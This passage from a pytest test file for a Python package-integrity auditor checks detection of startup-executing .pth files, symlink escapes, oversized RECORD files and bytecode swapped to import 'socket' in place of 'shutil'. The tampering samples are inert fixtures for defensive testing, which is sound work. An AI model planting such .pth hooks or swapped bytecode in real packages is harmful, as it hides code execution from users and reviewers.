    (helper / "METADATA").write_text("Name: helper\nVersion: 1.0\n", encoding="utf-8")
    checks = run(root)
    assert bad(checks) == {}  # an installed distribution vouches: named, with its code
    assert ("zzz_evil.pth executes code at startup, vouched for by helper-1.0.dist-info (matches "
            "its RECORD; imports os (standard library, not audited here)): line 1: import os; "
            "os.system('true'); file sha256 ") in checks["shadowing"].message


def test_a_package_directory_linked_outside_the_root_is_not_audited(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (root / "pkg").rename(outside / "pkg")
    (root / "pkg").symlink_to(outside / "pkg")
    checks = run(root)
    assert list(checks) == ["record"] and checks["record"].status is Status.ERROR
    assert checks["record"].message == (f"pkg/ resolves outside the target root ({outside / 'pkg'}):"
                                        " symlink escape, not audited")
    (root / "pkg").unlink()
    (outside / "pkg").rename(root / ".pkg-real")
    (root / "pkg").symlink_to(".pkg-real")  # inside the root: followed, as Python follows it
    assert bad(run(root)) == {}


def test_a_record_too_large_to_be_real_is_not_read(tmp_path: Path) -> None:
    root = install(tmp_path / "site")
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    rec.write_bytes(rec.read_bytes() + b"\n" * (16 << 20))  # blank lines: parsed, it would pass
    checks = run(root)
    assert checks["record"].status is Status.ERROR
    assert checks["record"].message == (
        f"pkg-1.0.dist-info/RECORD is {rec.stat().st_size:,} bytes, over the 16 MiB a RECORD may "
        "have (one for 100,000 files is about 10 MiB): not read")


def test_a_source_too_large_to_keep_leaves_its_bytecode_unverified(tmp_path: Path) -> None:
    """A wheel member inflated past the limit is hashed for RECORD, never held
    whole (a 2.4 MB wheel inflating to 2 GiB took 4.2 GB of memory)."""
    text = "#" * (16 << 20) + "\nX = 1\n"
    root = install(tmp_path / "site", {"pkg/__init__.py": "", "pkg/mod.py": text},
                   compile_pyc=False)
    src = root / "pkg" / "mod.py"
    pyc = Path(importlib.util.cache_from_source(str(src)))
    py_compile.compile(str(src), cfile=str(pyc), doraise=True,
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    whl = wheel_of(root, tmp_path)
    key = f"bytecode:{pyc.relative_to(root).as_posix()}"
    checks = bad(run(whl))
    assert list(checks) == [key]
    assert checks[key].status is Status.ERROR
    assert checks[key].message == (
        f"Unverified bytecode: pkg/mod.py is {len(text):,} bytes, over the 16 MiB per file kept "
        "for comparison; it could not be compared with its source")


def test_marshal_reader_reads_long_integers_by_value() -> None:
    """The pyc reader decodes marshal's 15-bit-digit longs (now in linear time):
    every size and sign round-trips to the value Python itself wrote."""
    from pp1audit.checks.pyccompare import _marshal_tree

    for v in (0, 2**15 - 1, 2**15, 2**30, 2**31, -(2**31) - 1, 2**45 + 12345, -(3**3000), 7**5000,
              10**20000):
        tree, _ = _marshal_tree(marshal.dumps(v))
        assert tree == ("int", v), v.bit_length()


def test_a_tree_without_bytecode_never_opens_the_verification_cache(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading the cache (up to 64 MiB) and finding its directory buy nothing
    when no pyc is there to judge; with one, the cache is used."""
    from pp1audit.checks import bytecode

    def no_cache() -> Path:
        raise AssertionError("the verification cache was looked for")

    monkeypatch.setattr(bytecode, "default_cache_dir", no_cache)
    for compile_pyc in (False, True):
        root = install(tmp_path / f"site{compile_pyc}", compile_pyc=compile_pyc)
        with DirectorySource(root) as source:
            rec = RecordRun("pkg", source)
            if compile_pyc:
                with pytest.raises(AssertionError, match="was looked for"):
                    record_checks(rec)
            else:
                checks = {c.id: c for c in record_checks(rec)}
                assert bad(checks) == {} and checks["bytecode"].message.startswith("0 bytecode files")


def test_a_large_record_is_read_without_starting_threads(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """RECORD (700 kB for vLLM) is read by the calling thread while the hashing
    threads work: one more thread for one file only cost time (5 ms)."""
    from pp1audit.checks.distrecord import read_record
    from pp1audit.sources import hashing

    root = install(tmp_path / "site", {f"pkg/m{i:05}.py": "x = 1\n" for i in range(4000)},
                   compile_pyc=False)
    rec = root / "pkg-1.0.dist-info" / "RECORD"
    assert rec.stat().st_size > hashing.SMALL

    def no_threads(self: object, *args: object) -> None:
        raise AssertionError("a hashing thread was started")

    monkeypatch.setattr(hashing.HashRun, "_submit", no_threads)
    assert read_record(DirInventory(str(root)), "pkg-1.0.dist-info/RECORD") == rec.read_bytes()


def test_a_long_field_that_differs_late_is_shown_where_it_differs(tmp_path: Path) -> None:
    """Both sides of a long ``co_names`` cut at the same first characters looked
    identical (and left a parenthesis open); the message names the first item
    that differs, each side a whole literal."""
    names = ["datetime", "json", "logging", *(f"helper_module_{i}" for i in range(20))]
    root = install(tmp_path / "site", {"pkg/__init__.py": "",
                                       "pkg/mod.py": f"import {', '.join(names)}, shutil\n"})
    src = root / "pkg" / "mod.py"
    pyc = Path(importlib.util.cache_from_source(str(src)))
    evil = compile(f"import {', '.join(names)}, socket\n", str(src), "exec", dont_inherit=True)
    pyc.write_bytes(pyc.read_bytes()[:16] + marshal.dumps(evil))
    message = bad(run(root))[f"bytecode:{pyc.relative_to(root).as_posix()}"].message
    assert "<module>.co_names (item 23: 'socket' in the bytecode, 'shutil' compiled)" in message, message
    assert message.count("(") == message.count(")") and len(message) < 400, message


def test_a_long_differing_item_and_an_escaped_string_still_show_where_they_part() -> None:
    """Cut to the same first characters, a long name in a names tuple, or a string
    of escapes, looked identical on both sides of the message."""
    from pp1audit.checks.pycexplain import _field_differences, _where_they_part
    from pp1audit.text.safe import printable

    long_name = "load_configuration_from_environment_variables_v"
    a = compile(f"from p import {long_name}1\n", "m", "exec")
    b = compile(f"from p import {long_name}2\n", "m", "exec")
    (message,) = _field_differences(a, b)
    assert message.startswith("<module>.co_names (item 1: from character 47: ")
    assert "ariables_v1' in the bytecode" in message and "ariables_v2' compiled" in message
    escapes = printable(_where_they_part("\x1b" * 100, "\x1b" * 99 + "a"))  # as an output shows it
    mine, fresh = escapes.split(" in the bytecode, ")
    assert mine.endswith("\\x1b'") and fresh.endswith("a' compiled")
